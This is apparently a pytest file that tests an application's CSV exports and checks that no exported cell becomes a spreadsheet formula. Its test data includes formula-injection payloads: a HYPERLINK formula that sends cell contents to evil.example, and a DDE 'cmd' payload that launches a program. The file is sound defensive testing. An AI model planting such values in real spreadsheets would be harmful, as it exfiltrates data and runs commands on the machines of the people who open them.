"""Lists for a spreadsheet, in which no cell becomes a formula."""

import csv
import re

import pytest

from page_program import refused
from scenario import agent, named

CELL = rb'"(?:[^"]|"")*"'
SHEET = re.compile(rb"\xef\xbb\xbf(?:" + CELL + rb"(?:," + CELL + rb")*\r\n)+")
FORMULA = re.compile(r"[=+\-@\t\r\n]")
HOSTILE = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0",
    'Quoted "name"', "Comma, semicolon; and more", "'already quoted", "Zoë O’Brien ☃", ';=1+1', '",=1+1,"', "a\\\"b",
]  # fmt: skip


def sheet(answer):
    """The rows of a sheet as a spreadsheet reads them; the answer is checked to be one."""
    assert answer.status == 200, answer.body
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert SHEET.fullmatch(answer.body), answer.body
    rows = list(csv.reader(answer.body.decode("utf-8-sig").split("\r\n")[:-1], strict=True))
    assert len({len(row) for row in rows}) == 1
    assert not [cell for row in rows for cell in row if FORMULA.match(cell)]
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def file_name(answer):
    return re.fullmatch(r'attachment; filename="([\w.-]+\.csv)"', answer.headers["Content-Disposition"])[1]


def shown(text):
    return "'" + text if FORMULA.match(text) else text


@pytest.fixture
def hostile(site):
    """A site whose names would be formulas."""
    site.set_records("campaigns", [named(str(n), name) for n, name in enumerate(HOSTILE, 1)])
    return site


def test_a_plan_is_a_sheet_with_a_line_for_each_row(hostile, visitor):
    plan = visitor.preview("campaigns")["campaigns"]
    answer = visitor.get("/api/plan.csv", kind="campaigns")
    rows = sheet(answer)
    assert [(row["key"], row["name"], row["action"]) for row in rows] == [
        (row["key"], shown(row["name"]), row["action"]) for row in plan["rows"]]  # fmt: skip
    assert {row["name"] for row in rows} == {shown(name) for name in HOSTILE}
    assert "demo" in file_name(answer) and "campaigns" in file_name(answer)


def test_a_plan_s_sheet_holds_what_changes_and_what_ivinex_has_alone(hostile, visitor):
    hostile.add_row("campaigns", {"name": "=evil()", "cxone_id": ""})
    hostile.sync("campaigns", "1,2")
    hostile.set_records("campaigns", [named("1", "=other()"), named("2", "=1+1")])
    visitor.preview("campaigns")
    rows = {row["name"]: row for row in sheet(visitor.get("/api/plan.csv", kind="campaigns"))}
    assert HOSTILE[0] in rows["'=other()"]["changes"] and "=other()" in rows["'=other()"]["changes"]
    assert (rows["'=1+1"]["action"], rows["'=evil()"]["action"]) == ("unchanged", "only_in_ivinex")


def test_line_ends_within_a_value_stay_within_their_cell(site, visitor):
    text = 'one\r\n=two()\n"three"\r,=four()'
    site.set_records("campaigns", [named("1", "Name", notes=text)])
    visitor.preview("campaigns")
    body = visitor.get("/api/plan.csv", kind="campaigns").body
    assert SHEET.fullmatch(body)
    (row,) = csv.DictReader(body.decode("utf-8-sig").splitlines(keepends=True))
    assert row["key"] == "1" and row["cxone.notes"].startswith("one")


def test_a_report_is_a_sheet(hostile, visitor):
    hostile.switch(**{"fail-text": "+1+1"})
    job = visitor.apply((visitor.preview("campaigns")["campaigns"], "all"))
    report = visitor.report(job, "campaigns")
    answer = visitor.get("/api/report.csv", run=report["run"])
    rows = sheet(answer)
    assert [(row["key"], row["name"], row["outcome"]) for row in rows] == [
        (row["key"], shown(row["name"]), row["outcome"]) for row in report["rows"]]  # fmt: skip
    assert "failed" in {row["outcome"] for row in rows}
    assert report["run"] in file_name(answer)


def test_the_history_is_a_sheet(site, page):
    visitor = page(site, "--actor", '=HYPERLINK("http://evil.example","Ada")').visitor()
    visitor.apply((visitor.preview("users")["users"], "all"))
    answer = visitor.get("/api/history.csv")
    (row,) = sheet(answer)
    (run,) = visitor.json("/api/history")["runs"]
    assert (row["run"], row["kind"], row["actor"], row["created"], row["exit"]) == (
        run["run"], "users", "'" + run["actor"], "3", "0")  # fmt: skip
    assert file_name(answer)


def test_follow_ups_are_a_sheet(site, visitor):
    site.set_records("users", [agent("1", "ada", "=1+1", '"Ada"'), agent("2", "bob", "@bob", "")])
    visitor.apply((visitor.preview("users")["users"], "all"))
    rows = sheet(visitor.get("/api/follow-ups.csv"))
    assert sorted((row["what"], row["key"], row["name"]) for row in rows) == [
        ("set_password", "1", "'=1+1 \"Ada\""), ("set_password", "2", "'@bob")]  # fmt: skip
    assert file_name(visitor.get("/api/follow-ups.csv"))


def test_empty_lists_are_sheets_with_their_headings(visitor):
    for path in ("/api/history.csv", "/api/follow-ups.csv"):
        answer = visitor.get(path)
        assert sheet(answer) == [] and len(answer.body) > 20


def test_a_sheet_of_nothing_is_refused(visitor):
    refused(visitor.get("/api/plan.csv", kind="users"), 404, "no_plan")
    refused(visitor.get("/api/plan.csv"), 400, "bad_request")
